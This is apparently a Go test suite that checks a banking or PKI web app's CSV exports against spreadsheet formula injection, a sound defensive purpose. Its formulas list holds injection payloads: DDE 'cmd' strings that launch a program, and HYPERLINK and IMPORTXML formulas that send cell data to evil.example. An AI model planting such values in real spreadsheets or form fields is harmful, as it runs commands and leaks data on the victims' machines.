package attacks_test

import (
	"encoding/csv"
	"net/http"
	"strings"
	"testing"

	"github.com/ingam-pki/ingam/internal/outside/simulator"
)

// formulas are names, and reasons, that a spreadsheet would run.
var formulas = []string{
	`=cmd|'/c calc'!A1`, `+1+cmd|' /C calc'!A0`, "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", `=HYPERLINK("http://evil.example/?"&A1,"ok")`,
	" =1+1+1", "\u3000=1+1+1", "＝1+1+1", "＋1+1+1", "＠SUM(A1)", `"=1+1",=2+2`, "a,b\",=1+1", `'=1+1+1`, "가나다라;=1+1", "=IMPORTXML(CONCAT(\"http://evil.example\",A1),\"//a\")",
}

// inert demands that no cell of a table would run, and that each row has the
// columns of the first.
func (s shown) inert(b *browser, what string) (rows [][]string) {
	t := b.w.t
	t.Helper()
	if s.status != http.StatusOK || !strings.HasPrefix(s.header.Get("Content-Type"), "text/csv") ||
		!strings.HasPrefix(s.header.Get("Content-Disposition"), "attachment;") {
		t.Errorf("%s: %d %v", what, s.status, s.header)
		return nil
	}
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(string(s.body), "\uFEFF"))).ReadAll()
	if err != nil || len(rows) < 2 {
		t.Errorf("%s: %d rows: %v", what, len(rows), err)
	}
	for _, row := range rows {
		for _, cell := range row {
			if first := strings.TrimLeft(cell, " \t\r\n\u00a0\u3000\ufeff"); first != "" && strings.ContainsRune("=+-@＝＋－＠", []rune(first)[0]) {
				t.Errorf("%s: a cell begins with %q", what, first[:1])
			}
		}
	}
	return rows
}

// "My name is a formula; so I told the bank. Who opens the table of my
// certificates in a spreadsheet runs it. And the reason why I looked at somebody
// is one, for the auditor."
func TestTablesThatRun(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	hong := w.holder("hong")
	far := w.walksIn("han")
	teller := w.employee(tellerNumber)
	last := formulas[len(formulas)-1]
	for _, name := range append(formulas[:len(formulas):len(formulas)], "=1+1\n=2+2", "a\r\n=3+3", "\t=4+4", "\n=5+5") {
		w.Simulator().Update(hong.s.Number, func(s *simulator.Sample) { s.Name = name })
		s := teller.post(customerAt(hong.s) + "/export.csv")
		rows := s.inert(teller, name)
		want := strings.TrimSpace(name)
		if strings.ContainsAny(name, "\r\n\t") {
			want = last // a name of several lines is none: the one from before stays
		}
		if len(rows) != 2 || len(rows[1]) != 9 || !strings.Contains(rows[1][1], want) {
			t.Errorf("%q: the table is %q", name, rows)
		}
		page := teller.get(customerAt(hong.s))
		if page.status != http.StatusOK {
			t.Errorf("%q: the customer's page: %d", name, page.status)
		}
	}
	for _, why := range formulas {
		teller.post(customerAt(far), "why", why)
		if s := teller.get(customerAt(far)); s.status != http.StatusOK || !s.says(far.Name) {
			t.Errorf("the reason %q: %d", why, s.status)
		}
	}
	auditor := w.employee(theAuditor)
	if s := auditor.get("/console/audit/export.csv?object=%3D1%2B1"); s.status != http.StatusBadRequest {
		t.Errorf("a formula as what is looked for: %d", s.status)
	}
	for _, path := range []string{"", "?act=customer.view", "?role=teller"} {
		rows := auditor.get("/console/audit/export.csv"+path).inert(auditor, "audit log "+path)
		told := 0
		for _, row := range rows {
			if strings.Contains(strings.Join(row, " "), "cmd|") {
				told++
			}
		}
		if told < 4 {
			t.Errorf("audit log %s: only %d reasons stand in it", path, told)
		}
	}
	if page := auditor.get("/console/audit?act=customer.view"); page.status != http.StatusOK || !page.says(formulas[4]) {
		t.Errorf("the auditor's page: %d", page.status)
	}
}
